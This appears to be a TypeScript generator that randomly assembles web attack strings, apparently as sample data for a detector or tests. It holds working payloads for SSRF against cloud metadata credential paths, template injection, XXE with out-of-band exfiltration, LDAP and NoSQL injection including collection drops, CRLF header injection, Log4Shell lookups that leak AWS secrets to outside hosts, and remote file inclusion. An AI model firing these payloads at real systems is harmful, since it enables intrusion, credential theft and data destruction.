// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template and lookup syntax

import type { Random } from "../random.ts"
import { applicationFile, unixFile, windowsFile } from "./files.ts"
import { digits, hostName, identifier, ipAddress, oneOf } from "./grammar.ts"
import { word } from "./vocabulary.ts"

/**
 * Attacks beyond the four named classes, written from the documentation of what they abuse:
 * template engines, LDAP filters (RFC 4515), XML entities (XML 1.0), MongoDB operators, URLs of
 * inner services, header line breaks (RFC 9112), Log4j lookups, and files included by URL.
 */
export function otherAttack(random: Random): string {
  return oneOf(random, [
    serverSideRequest,
    serverSideRequest,
    templateInjection,
    templateInjection,
    externalEntity,
    ldapInjection,
    ldapInjection,
    documentQuery,
    documentQuery,
    headerBreak,
    logLookup,
    remoteInclude,
    remoteInclude,
  ])
}

/**
 * Addresses that only the server itself, or its cloud, can reach. A plain address of the loopback
 * is what developers use all day: it counts only in disguise or with the path of an inner service.
 */
function serverSideRequest(random: Random): string {
  if (random.chance(0.3)) return rawProtocol(random)
  const lead = random.pick(["", "", "", "url=", "uri=", "next=", "dest=", "target="])
  const scheme = random.pick(["http://", "http://", "https://", "http:\\\\", "url:http://"])
  return `${lead}${scheme}${oneOf(random, [cloudMetadata, cloudMetadata, disguisedLoopback, innerService])}`
}

function cloudMetadata(random: Random): string {
  const host = random.pick([
    "169.254.169.254",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "100.100.100.200",
    "2852039166",
    "0xa9fea9fe",
    `${identifier(random)}@169.254.169.254`,
  ])
  const path = random.pick([
    "/",
    "/latest/meta-data/",
    "/latest/meta-data/iam/security-credentials/",
    "/latest/meta-data/hostname",
    "/latest/user-data",
    "/latest/dynamic/instance-identity/document",
    "/computeMetadata/v1/instance/service-accounts/default/token",
    "/metadata/instance?api-version=2021-02-01",
    "/opc/v1/instance/",
  ])
  return `${host}${path}`
}

function disguisedLoopback(random: Random): string {
  const host = random.pick([
    "2130706433",
    "0x7f000001",
    "017700000001",
    "0x7f.1",
    "127.1",
    "127.0.1",
    "[::ffff:127.0.0.1]",
    "[0:0:0:0:0:0:0:1]",
    "127.0.0.1.nip.io",
    `${identifier(random)}.com@127.0.0.1`,
    `127.0.0.1%2523@${hostName(random)}`,
    "localhost%00",
  ])
  return `${host}${random.pick(["", "/", ":22", ":80/", ":6379/", "/admin", `/${identifier(random)}`])}`
}

function innerService(random: Random): string {
  const host = random.pick(["127.0.0.1", "localhost", "0.0.0.0", "[::]", "[::1]"])
  return `${host}${random.pick([":22/", ":25/", ":2375/containers/json", ":6379/", ":9200/_cat/indices", ":11211/", ":8500/v1/kv/?recurse", ":10250/pods", "/server-status", ":8080/actuator/env", "/latest/meta-data/", ":5984/_all_dbs"])}`
}

/** Protocols by which one line can be written into a service that speaks another. */
function rawProtocol(random: Random): string {
  const port = random.pick([6379, 25, 11211, 3306, 9000, 80])
  const line = random.pick([
    "*1%0d%0a$8%0d%0aflushall%0d%0a",
    "EHLO%20x%0aMAIL%20FROM",
    "stats%0aquit",
    "info",
    "set%201%20%22x%22",
    "SLAVEOF%201.2.3.4%206379",
  ])
  return oneOf(random, [
    (r) => `gopher://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/_${line}`,
    (r) => `dict://${r.pick(["127.0.0.1", "localhost", ipAddress(r)])}:${port}/${line}`,
    (r) =>
      `${r.pick(["ldap", "tftp", "sftp", "ftp"])}://${hostName(r)}:${r.between(1, 65535)}/${identifier(r)}`,
    (r) => `netdoc://${unixFile(r)}`,
  ])
}

function templateInjection(random: Random): string {
  const [left, right] = [random.between(2, 9999), random.between(2, 9999)]
  const sum = random.pick([
    `${left}*${right}`,
    `${left}+${right}`,
    `${left}*'${right}'`,
    `'${identifier(random)}'.toUpperCase()`,
  ])
  const python = random.pick([
    "config",
    "config.items()",
    "self.__init__.__globals__",
    "request.application.__globals__.__builtins__",
    "''.__class__.__mro__[1].__subclasses__()",
    "[].__class__.__base__.__subclasses__()[40]('/etc/passwd').read()",
    "cycler.__init__.__globals__",
    "lipsum.__globals__",
    "self._TemplateReference__context",
    "request|attr('application')|attr('__globals__')",
    "get_flashed_messages.__globals__",
    "settings.SECRET_KEY",
  ])
  const probe = oneOf(random, [
    () => `{{${sum}}}`,
    () => `{{ ${sum} }}`,
    () => `\${${sum}}`,
    () => `#{${sum}}`,
    () => `<%= ${sum} %>`,
    () => `*{${sum}}`,
    () => `@(${sum})`,
    () => `{${sum}}`,
    () => `[[${sum}]]`,
    () => `{{=${sum}}}`,
    () => `~{${sum}}`,
    () => `{{${python}}}`,
    () => `{{ ${python} }}`,
    () =>
      `{% ${random.pick(["debug", "import os", "for c in [].__class__.__base__.__subclasses__()", "include '/etc/passwd'", "if 1==1"])} %}`,
    () =>
      `\${${random.pick(["T(java.lang.System).getenv()", "\"\".getClass().forName('java.lang.Runtime')", "applicationScope", "pageContext.request", "product.getClass().getProtectionDomain()", "class.getClassLoader()"])}}`,
    () => `<#assign ex="freemarker.template.utility.Execute"?new()>`,
    () => `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime()`,
    () => `{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}`,
    () => `{{['${identifier(random)}']|join}}`,
    () => `<%= File.open('${unixFile(random)}').read %>`,
    () => `<%= Dir.entries('/') %>`,
    () => `@{${random.pick(["7*7", 'System.IO.File.ReadAllText("web.config")', "Html.Raw(1)"])}}`,
    () => `__\${${random.pick(["T(java.lang.Runtime).getRuntime()", sum])}}__::.x`,
    () => `{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}`,
  ])
  return `${random.pick(["", "", "", identifier(random), `${word(random)} `, "name=", "}}", "'}}"])}${probe}`
}

function externalEntity(random: Random): string {
  const name = random.pick(["xxe", "x", "file", "ent", "test", identifier(random)])
  const target = oneOf(random, [
    (r) => `file://${unixFile(r)}`,
    (r) => `file:///${windowsFile(r).replaceAll("\\", "/")}`,
    (r) => `http://${hostName(r)}/${identifier(r)}${r.pick([".dtd", "", ".xml"])}`,
    (r) => `php://filter/convert.base64-encode/resource=${applicationFile(r)}`,
    (r) =>
      `${r.pick(["expect://id", "jar:http://x/y!/z", "ftp://1.2.3.4:2121/x", "netdoc:/etc/passwd"])}`,
  ])
  const head = random.pick([
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    "",
    '<?xml version="1.0" encoding="ISO-8859-1"?>',
  ])
  const root = random.pick(["foo", "root", "data", "r", identifier(random)])
  return oneOf(random, [
    () =>
      `${head}<!DOCTYPE ${root} [<!ENTITY ${name} SYSTEM "${target}">]><${root}>&${name};</${root}>`,
    () =>
      `${head}<!DOCTYPE ${root} [<!ELEMENT ${root} ANY><!ENTITY ${name} SYSTEM '${target}'>]><${root}>&${name};</${root}>`,
    () => `${head}<!DOCTYPE ${root} [<!ENTITY % ${name} SYSTEM "${target}"> %${name};]>`,
    () => `${head}<!DOCTYPE ${root} PUBLIC "-//${identifier(random)}//DTD" "${target}">`,
    () => `<!ENTITY % all "<!ENTITY send SYSTEM 'http://${hostName(random)}/?%file;'>"> %all;`,
    () =>
      `${head}<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><lolz>&c;</lolz>`,
    () =>
      `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></${root}>`,
    () => `<!ENTITY ${name} SYSTEM "${target}">`,
    () => `<xsl:value-of select="document('${target}')"/>`,
  ])
}

function ldapInjection(random: Random): string {
  const attribute = random.pick([
    "uid",
    "cn",
    "sn",
    "mail",
    "userPassword",
    "objectClass",
    "password",
    "memberOf",
    "ou",
    "givenName",
  ])
  const value = random.pick(["*", "*", "admin", "a*", identifier(random)])
  return oneOf(random, [
    () => `${random.pick(["*", "admin", identifier(random)])})(${attribute}=${value}`,
    () => `${random.pick(["*", "admin", ""])})(${random.pick(["|", "&"])}(${attribute}=${value})`,
    () => `*)(${attribute}=*))(|(${attribute}=*`,
    () => `${random.pick(["admin", identifier(random)])})(&)`,
    () =>
      `(${random.pick(["|", "&"])}(${attribute}=${value})(${random.pick(["mail", "cn", "uid"])}=*))`,
    () => `${random.pick(["*", "x"])})(!(${attribute}=${value}))(&(1=1`,
    () => `*)(${attribute}=*${random.pick(["", "%00", "))%00"])}`,
    () => `(!(${attribute}=${value}))`,
    () => `admin*)((|${attribute}=*)`,
    () => `${attribute}=*))%00`,
    () => `*(|(${attribute}=*))`,
  ])
}

function documentQuery(random: Random): string {
  const field = random.pick([
    "username",
    "password",
    "user",
    "login",
    "email",
    "id",
    "pass",
    "name",
    identifier(random),
  ])
  const operator = random.pick([
    "$ne",
    "$gt",
    "$regex",
    "$exists",
    "$in",
    "$nin",
    "$gte",
    "$lt",
    "$where",
    "$eq",
    "$type",
  ])
  const operand = random.pick([
    "null",
    '""',
    "1",
    "true",
    '".*"',
    '"^a"',
    '["admin"]',
    "-1",
    `"${identifier(random)}"`,
  ])
  return oneOf(random, [
    () => `${field}[${operator}]=${operand.replaceAll('"', "")}`,
    () =>
      `${field}[${operator}]=${identifier(random)}&${random.pick(["password", "pass"])}[${operator}]=${digits(random, 1)}`,
    () => `{"${field}": {"${operator}": ${operand}}}`,
    () => `{"${field}":{"${operator}":${operand}},"password":{"${operator}":${operand}}}`,
    () => `{"${operator}": ${operand}}`,
    () =>
      `{"$where": "${random.pick(["sleep(5000)", "this.password.length > 5", "1==1", "return true", "this.a == 'b'"])}"}`,
    () =>
      `${random.pick(["'", '"'])} || ${random.pick(["1==1", "'1'=='1", "true", "this.password.match(/.*/)"])}${random.pick(["//", "%00", " || '", ";//"])}`,
    () =>
      `';${random.pick(["return true", "while(1)", "return(true)", "db.users.drop()", "var d=new Date();do{c=new Date();}while(c-d<9000)"])};${random.pick(["'", "//", "var x='"])}`,
    () => `{"$or":[{"${field}":"admin"},{"a":"a"}]}`,
    () => `this.${field} ${random.pick(["==", "!="])} '${identifier(random)}' || 1==1`,
    () =>
      `db.${random.pick(["users", "accounts", identifier(random)])}.${random.pick(["find()", "insert({a:1})", "drop()", "remove({})"])}`,
    () => `"}, {"${field}": {"${operator}": ${operand}}, "x": "`,
  ])
}

function headerBreak(random: Random): string {
  const breakLine = random.pick([
    "%0d%0a",
    "%0d%0a",
    "%0D%0A",
    "%0a",
    "%250d%250a",
    "%E5%98%8A%E5%98%8D",
    "%u000d%u000a",
    "%23%0d%0a",
    "%3f%0d%0a",
  ])
  const header = oneOf(random, [
    (r) => `Set-Cookie:${r.pick([" ", "%20", ""])}${identifier(r)}=${identifier(r)}`,
    (r) => `Location:${r.pick([" ", "%20", ""])}http://${hostName(r)}`,
    () => "Content-Length:%200",
    () => `Content-Type: text/html${breakLine}${breakLine}<html>${word(random)}</html>`,
    (r) => `Bcc: ${identifier(r)}@${hostName(r)}`,
    () => `HTTP/1.1 200 OK${breakLine}Content-Type: text/html`,
    (r) => `Refresh: 0;url=http://${hostName(r)}`,
  ])
  return `${random.pick(["", "/", identifier(random), "en", `http://${hostName(random)}/`])}${breakLine}${header}${random.pick(["", breakLine, `${breakLine}${breakLine}`])}`
}

/** Lookups that Log4j 2 expanded in any text it logged (CVE-2021-44228). */
function logLookup(random: Random): string {
  const scheme = random.pick(["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"])
  const url = `${scheme}://${hostName(random)}${random.pick(["", `:${random.between(80, 9999)}`])}/${identifier(random)}`
  return oneOf(random, [
    () => `\${jndi:${url}}`,
    () => `\${\${lower:j}ndi:${url}}`,
    () => `\${\${lower:j}\${lower:n}\${lower:d}i:${url}}`,
    () => `\${\${::-j}\${::-n}\${::-d}\${::-i}:${url}}`,
    () => `\${\${env:${identifier(random).toUpperCase()}:-j}ndi:${url}}`,
    () => `\${\${upper:j}ndi:${url}}`,
    () =>
      `\${jndi:${scheme}://\${${random.pick(["env:AWS_SECRET_ACCESS_KEY", "sys:java.version", "hostName", "ctx:loginId"])}}.${hostName(random)}/a}`,
    () => `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:${url}}`,
    () =>
      `\${${random.pick(["env:PATH", "sys:user.name", "java:version", "main:0", "ctx:x", "script:javascript:1", "dns:address|x", "url:UTF-8:http://x"])}}`,
  ])
}

function remoteInclude(random: Random): string {
  const file = `${identifier(random)}${random.pick([".txt", ".php", ".gif", ".jpg", ".inc", ""])}`
  const tail = random.pick(["?", "?", "??", "%00", "?cmd=id", "?&cmd=ls", "%3f", ".txt?"])
  const url = `${random.pick(["http://", "http://", "http://", "https://", "ftp://", "hTTp://"])}${hostName(random)}/${random.pick(["", `${identifier(random)}/`, "~x/"])}${file}${tail}`
  const name = random.pick([
    "page",
    "file",
    "include",
    "inc",
    "path",
    "dir",
    "template",
    "root_path",
    "mosConfig_absolute_path",
    "GLOBALS[root]",
    "_REQUEST[option]",
    "language",
    `${word(random)}_path`,
    `${word(random)}_dir`,
    `CONFIG[${word(random)}_root]`,
    `${identifier(random)}_root_path`,
    identifier(random),
  ])
  return oneOf(random, [
    () => `${scriptPath(random)}?${name}=${url}`,
    () => url,
    () => `${name}=${url}`,
    () =>
      `${random.pick(["data://text/plain,", "data:text/plain;base64,", "php://input", "expect://id", "expect://ls", "phar://x.phar/y", "zip://x.zip%23y"])}${random.pick(["", btoa("<?php phpinfo(); ?>"), "<?php system('id');?>"])}`,
    () => `\\\\${hostName(random)}\\${identifier(random)}\\${file}`,
  ])
}

/** A script somewhere below the root of a site, as lists of vulnerable scripts name them. */
function scriptPath(random: Random): string {
  const directories = random.many(
    random.below(4),
    () => `${random.pick([word, identifier])(random)}/`,
  )
  const script = random.pick([
    "index",
    "include",
    "config",
    "common",
    "header",
    "functions",
    "main",
    "lib",
    "admin",
    identifier(random),
  ])
  return `/${directories}${script}${random.pick([".php", ".php", ".php", ".inc.php", ".class.php", ".asp", ".jsp", ""])}`
}
